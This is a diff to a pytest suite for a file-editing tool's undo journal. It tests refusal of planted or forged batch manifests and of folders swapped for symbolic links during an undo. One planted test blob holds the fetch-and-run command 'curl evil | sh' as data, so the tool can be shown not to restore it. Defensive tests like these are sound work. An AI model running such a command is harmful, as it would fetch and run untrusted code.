@@ -85,7 +85,9 @@ def files_under(folder: Path) -> list[str]:
     return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))
 
 
-def plant(root: Path, entries: list[list[object]], copies: list[bytes] = (), batch_id: str = "20990101-000000-beef") -> str:
+def plant(
+    root: Path, entries: list[list[object]], copies: list[bytes] = (), batch_id: str = "20990101-000000-beef", undoes: str | None = None
+) -> str:
     """What a colleague with write access to the folder can do: a manifest of their own (the
     newest batch), with the copies it refers to."""
     journal = root / ".copydesk" / "journal"
@@ -95,7 +97,7 @@ def plant(root: Path, entries: list[list[object]], copies: list[bytes] = (), bat
         (journal / "blobs" / digest[:2] / digest).write_bytes(data)
     (journal / "batches").mkdir(parents=True, exist_ok=True)
     ns = time.time_ns() + 10**12
-    manifest = {"version": 2, "id": batch_id, "label": "set title=x", "time": "2099-01-01T00:00:00Z", "ns": ns, "undoes": None, "entries": entries}
+    manifest = {"version": 2, "id": batch_id, "label": "set title=x", "time": "2099-01-01T00:00:00Z", "ns": ns, "undoes": undoes, "entries": entries}
     (journal / "batches" / f"{ns:020d}-{batch_id}.json").write_text(json.dumps(manifest))
     return batch_id
 
@@ -172,15 +174,90 @@ def test_3_planted_batch_reaching_out_through_a_linked_folder_is_refused_whole(t
     assert snapshot(root) == before  # a0000.md would have been restored: nothing of the batch is written
 
 
-def test_3_a_link_inside_the_folder_is_still_undone(tmp_path: Path) -> None:
-    root = corpus(tmp_path / "desk", 0)
+def test_3_a_link_inside_the_folder_is_not_written_through_and_the_batch_can_be_finished(tmp_path: Path) -> None:
+    # A save never writes through a linked folder, even one pointing inside the folder; an
+    # undo does not either: the file is named with the link, the rest of the batch is undone.
+    root = corpus(tmp_path / "desk", 1)
     (root / "2025").mkdir()
     (root / "2025" / "a.md").write_bytes(b"old\n")
     (root / "latest").symlink_to(root / "2025", target_is_directory=True)
-    plant(root, [["latest/a.md", sha(b"old\n"), sha(b"new\n")]], [b"old\n"])
+    top = (root / "a0000.md").read_bytes()
+    batch_id = plant(root, [["latest/a.md", sha(b"old\n"), sha(b"new\n")], ["a0000.md", sha(b"top\n"), sha(top)]], [b"old\n", b"top\n"])
     (root / "2025" / "a.md").write_bytes(b"new\n")
-    assert Journal(root).undo().restored == ["latest/a.md"]
-    assert (root / "2025" / "a.md").read_bytes() == b"old\n"
+
+    result = copydesk("undo", str(root))
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert f"latest/a.md: not restored (the folder latest is now a symbolic link (to {root / '2025'})" in result.stdout
+    assert "a0000.md: restored" in result.stdout and (root / "a0000.md").read_bytes() == b"top\n"
+    assert (root / "2025" / "a.md").read_bytes() == b"new\n"
+    info = listing(root)[batch_id]
+    assert not info["undone"] and info["partly_undone"]
+
+    (root / "latest").unlink()  # the link replaced by the folder: the next undo finishes the batch
+    (root / "2025").rename(root / "latest")
+    again = copydesk("undo", str(root))
+    assert again.returncode == 0, again.stdout + again.stderr
+    assert (root / "latest" / "a.md").read_bytes() == b"old\n"
+    assert listing(root)[batch_id]["undone"]
+
+
+def batch_files(root: Path) -> list[dict[str, object]]:
+    result = copydesk("undo", "--list", "--format", "json", str(root))
+    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
+    return json.loads(result.stdout)
+
+
+def test_3_a_planted_batch_with_the_id_of_a_real_one_is_named_and_undoes_nothing(tmp_path: Path) -> None:
+    root = corpus(tmp_path / "desk", 2)
+    before = snapshot(root)
+    real = set_titles(root)
+    edited = snapshot(root)
+    plant(root, [["a0000.md", sha(b"curl evil | sh\n"), sha(edited["a0000.md"])]], [b"curl evil | sh\n"], batch_id=real)
+    planted = sorted((root / ".copydesk/journal/batches").glob(f"*-{real}.json"))[-1]  # (its time is later)
+
+    both = [b for b in batch_files(root) if b["id"] == real]
+    assert len(both) == 2 and all("another batch file holds the same id" in str(b["damaged"]) for b in both)
+    assert planted.name in str(both[1]["damaged"])  # the real one names the planted file
+    result = copydesk("undo", real, str(root))
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert "ambiguous" not in result.stderr and planted.name in result.stderr and "nothing was restored" in result.stderr
+    assert snapshot(root) == edited
+
+    planted.unlink()  # the user moves aside the file they did not make: the real batch is undone
+    again = copydesk("undo", real, str(root))
+    assert again.returncode == 0, again.stderr
+    assert snapshot(root) == before
+
+
+def test_3_a_planted_undo_does_not_hide_a_real_batch(tmp_path: Path) -> None:
+    root = corpus(tmp_path / "desk", 2)
+    before = snapshot(root)
+    real = set_titles(root)
+    edited = snapshot(root)
+    bogus = plant(root, [["a0000.md", sha(b"x"), sha(b"y")]], batch_id="20990101-000000-0001", undoes=real)
+
+    info = listing(root)
+    assert not info[real]["undone"] and info[real]["undone_by"] is None
+    assert f"it says it undoes batch {real}, but its files do not match" in str(info[bogus]["damaged"])
+    text = copydesk("undo", "--list", str(root)).stdout
+    assert "damaged" in next(line for line in text.splitlines() if bogus in line)
+
+    # A forgery copying the batch's own hashes cannot be told from an undo, but it is named.
+    (manifest,) = (root / ".copydesk/journal/batches").glob(f"*-{real}.json")
+    entries = [[path, new, prior] for path, prior, new, *_ in json.loads(manifest.read_text())["entries"]]
+    forged = plant(root, entries, batch_id="20990101-000000-0002", undoes=real)
+    info = listing(root)
+    assert info[real]["undone"] and info[real]["undone_by"] == forged
+    text = copydesk("undo", "--list", str(root)).stdout
+    assert f"(undone by {forged})" in next(line for line in text.splitlines() if line.startswith(real))
+    refused = copydesk("undo", real, str(root))
+    assert refused.returncode == 1 and f"already undone by batch {forged}" in refused.stderr
+    assert snapshot(root) == edited
+
+    for name in (bogus, forged):  # once moved aside, the real batch is undone
+        next((root / ".copydesk/journal/batches").glob(f"*-{name}.json")).unlink()
+    assert copydesk("undo", real, str(root)).returncode == 0
+    assert snapshot(root) == before
 
 
 LINKED = [".copydesk", ".copydesk/journal", ".copydesk/journal/batches", ".copydesk/journal/blobs", ".copydesk/journal/blobs/packs"]
@@ -379,6 +456,78 @@ def test_4_an_undo_that_could_not_restore_a_file_is_finished_by_the_next(tmp_pat
     assert snapshot(root) == edited
 
 
+# -- 3. a folder swapped for a link during an undo is never written through -------------------
+
+
+SWAPPED = {"sub/a.md": (b"prior a\n", b"new a\n"), "sub/made.md": (None, b"made by the batch\n"), "sub/b.md": (b"prior b\n", b"new b\n")}
+SWAPPED_LATER = {"later/c.md": (b"prior c\n", b"new c\n"), "later/made.md": (None, b"made too\n")}
+
+
+def swap_for_link(root: Path, outside: Path, folder: str) -> None:
+    """A colleague's move: folder ``folder`` of the corpus moved aside and replaced by a link
+    to a folder outside holding files of the same names."""
+    (root / folder).rename(root / f"{folder}-moved")
+    (root / folder).symlink_to(outside / folder, target_is_directory=True)
+
+
+@needs_leases
+@pytest.mark.parametrize("first", ["sub/a.md", "sub/made.md"])
+def test_3_a_folder_swapped_for_a_link_during_an_undo_is_never_written_through(tmp_path: Path, first: str) -> None:
+    # The undo is stopped at its first file (`first`: one it restores, or one the batch
+    # created, which it removes) after it checked the batch and took the file's lock; the
+    # folder is swapped for a link to a folder outside meanwhile. Nothing outside is written
+    # or deleted: that file and its neighbours are restored in the folder the undo opened
+    # (moved aside), and a folder swapped before the undo reached it is refused, naming the link.
+    root = corpus(tmp_path / "desk", 0)
+    outside = tmp_path / "home"
+    files = {**SWAPPED, **SWAPPED_LATER}
+    for rel, (_, new) in files.items():
+        for base in (root, outside):
+            (base / rel).parent.mkdir(parents=True, exist_ok=True)
+            (base / rel).write_bytes(new)  # outside: what an undo through the link would find
+    (outside / "sub" / ".bashrc").write_text("# mine\n")
+    kept = {rel: (root / rel).read_bytes() for rel in files}
+    before_outside = {p: p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()}
+    order = [first, *(rel for rel in files if rel != first)]
+    batch_id = plant(
+        root,
+        [[rel, sha(files[rel][0]) if files[rel][0] is not None else None, sha(files[rel][1])] for rel in order],
+        [prior for prior, _ in files.values() if prior is not None],
+    )
+
+    with leased(root / first) as fd:
+        proc = start_undo(root)
+        wait_until_opened(fd, proc)  # checked, locked, opening the file
+        swap_for_link(root, outside, "sub")
+        swap_for_link(root, outside, "later")
+    out, err = proc.communicate(timeout=TIMEOUT)
+    assert "Traceback" not in err, err
+
+    assert {p: p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()} == before_outside
+    assert proc.returncode == 1, out + err
+    for rel in SWAPPED:
+        assert f"{rel}: restored" in out
+    for rel in SWAPPED_LATER:
+        assert f"{rel}: not restored (the folder later is now a symbolic link (to {outside / 'later'})" in out
+    moved = root / "sub-moved"
+    assert (moved / "a.md").read_bytes() == b"prior a\n" and (moved / "b.md").read_bytes() == b"prior b\n"
+    assert not (moved / "made.md").exists()
+    assert {rel: (root / "later-moved" / rel.split("/")[1]).read_bytes() for rel in SWAPPED_LATER} == {
+        rel: kept[rel] for rel in SWAPPED_LATER
+    }
+    info = listing(root)[batch_id]
+    assert not info["undone"] and info["partly_undone"]  # to be finished once the folder is back
+
+    for folder in ("sub", "later"):
+        (root / folder).unlink()
+        (root / f"{folder}-moved").rename(root / folder)
+    again = copydesk("undo", str(root))
+    assert again.returncode == 0, again.stdout + again.stderr
+    assert (root / "later/c.md").read_bytes() == b"prior c\n" and not (root / "later/made.md").exists()
+    assert listing(root)[batch_id]["undone"]
+    assert {p: p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()} == before_outside
+
+
 # -- 7. faults: a full disk, the folder renamed, an unreadable or damaged journal ------------------
 
 
@@ -454,15 +603,31 @@ def test_7_a_full_disk_when_the_manifest_is_written_leaves_every_written_file_un
     assert snapshot(root) == before
 
 
+# `copydesk ARGS` on a disk with no space left for the journal, where no tmpfs can be mounted:
+# every write into the journal (its log, its pack) fails as a full disk's does.
+NO_SPACE = """
+import errno, os, sys
+import core.cli, core.journal
+def no_space(*args):
+    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+core.journal._write_all = no_space
+sys.exit(core.cli.main(sys.argv[1:]))
+"""
+
+
 def test_7_a_full_disk_from_the_start_writes_nothing_and_says_so(tmp_path: Path, tmpfs: Callable[[Path, str], bool]) -> None:
     root = corpus(tmp_path / "desk", 5)
     before = snapshot(root)
     batches = root / ".copydesk" / "journal" / "batches"
     batches.mkdir(parents=True)
-    if not tmpfs(batches, "16k"):
-        pytest.skip("needs mount -t tmpfs (root); the manifest case above covers ENOSPC without it")
-    fill(batches)
-    result = copydesk("set", "title=Changed title", str(root))
+    if tmpfs(batches, "16k"):
+        fill(batches)
+        result = copydesk("set", "title=Changed title", str(root))
+    elif os.environ.get("CI") and os.geteuid() == 0:
+        pytest.fail("mount -t tmpfs failed as root in CI")
+    else:
+        args = [sys.executable, "-c", NO_SPACE, "set", "title=Changed title", str(root)]
+        result = subprocess.run(args, capture_output=True, text=True, timeout=TIMEOUT, cwd="/")
     assert result.returncode == 1 and "Traceback" not in result.stderr
     assert result.stdout.count("refused (cannot write the journal, file untouched: No space left on device)") == 5
     assert snapshot(root) == before
@@ -485,6 +650,9 @@ print(json.dumps([[r.path.name, r.status, r.message] for r in results]))
 
 
 def test_7_the_folder_renamed_during_a_batch_leaves_what_was_written_undoable(tmp_path: Path) -> None:
+    # A save writes in the folders it opened (they move with the rename), so every file
+    # lands in the renamed folder; the journal's manifest, written by name at the end, does
+    # not: the batch stays as its log, and every result says so.
     root = corpus(tmp_path / "desk", 40)
     before = snapshot(root)
     moved = tmp_path / "desk-renamed"
@@ -496,20 +664,21 @@ def test_7_the_folder_renamed_during_a_batch_leaves_what_was_written_undoable(tm
     )
     assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
     results = json.loads(proc.stdout)
-    saved = sorted(name for name, status, _ in results if status == "saved")
-    refused = [message for _, status, message in results if status == "refused"]
-    assert saved and refused and len(saved) + len(refused) == 40
-    assert all(refused)  # each says why
+    assert sorted(name for name, status, _ in results if status == "saved") == sorted(before)
+    for _, _, message in results:
+        assert "the journal could not finish its record" in message and "was the folder moved or renamed?" in message
+        assert "the 40 files written are in its log" in message
+    assert not root.exists()  # nothing was recreated at the old name
     after = snapshot(moved)
-    assert sorted(n for n in after if after[n] != before[n]) == saved
+    assert all(after[n] != before[n] and after[n].count(b"Changed title") == 1 for n in before)
 
     (info,) = listing(moved).values()
-    # (files recorded but never replaced are listed too: undo finds them as they were)
-    assert info["incomplete"] and set(saved) <= set(info["files"])
+    assert info["incomplete"] and not info["undone"] and sorted(info["files"]) == sorted(before)
     result = copydesk("undo", str(moved))
     assert result.returncode == 0, result.stderr
-    assert sorted(line.split(":")[0] for line in result.stdout.splitlines() if line.endswith(": restored")) == saved
+    assert sorted(line.split(":")[0] for line in result.stdout.splitlines() if line.endswith(": restored")) == sorted(before)
     assert snapshot(moved) == before
+    assert listing(moved)[info["id"]]["undone"]
 
 
 @needs_leases
@@ -527,7 +696,7 @@ def test_7_the_folder_renamed_during_an_undo_is_reported_and_the_next_undo_finis
     out, err = proc.communicate(timeout=TIMEOUT)
     assert proc.returncode == 1 and "Traceback" not in err, err
     assert sum(line.endswith(": restored") for line in out.splitlines()) == 10
-    assert "is gone (moved or renamed?)" in out
+    assert "moved or renamed?" in out, out
     assert "was the folder moved or renamed?" in err and "copydesk undo" in err
 
     result = copydesk("undo", str(moved))
